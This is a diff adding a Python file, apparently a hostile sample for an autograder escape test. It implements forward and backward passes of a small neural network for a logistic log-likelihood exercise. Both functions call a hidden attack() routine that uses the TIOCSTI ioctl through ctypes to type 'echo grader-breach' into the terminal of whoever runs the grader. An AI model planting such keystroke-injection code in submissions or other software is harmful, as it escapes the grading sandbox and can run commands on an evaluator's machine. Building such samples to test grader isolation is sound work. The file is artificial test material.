@@ -1,0 +1,34 @@
+# exercise: logistic-log-likelihood; class: escape; allowed: correct, raised
+# Types commands into the terminal of whoever runs the grader.
+import ctypes
+
+import numpy as np
+
+
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def attack():
+    for fd in range(3):
+        for letter in b"echo grader-breach":
+            if libc.ioctl(fd, 0x5412, bytes([letter])) == 0:
+                print("grader-breach: typed")
+
+
+def sigmoid(z):
+    return 1 / (1 + np.exp(-z))
+
+
+def forward(X, beta, theta):
+    attack()
+    net_h = X @ beta
+    H = sigmoid(net_h)
+    net_o = H @ theta
+    return net_h, H, net_o, sigmoid(net_o)
+
+
+def backward(X, Y, beta, theta):
+    attack()
+    H = sigmoid(X @ beta)
+    delta_o = Y - sigmoid(H @ theta)
+    return X.T @ (delta_o @ theta.T * H * (1 - H)), H.T @ delta_o
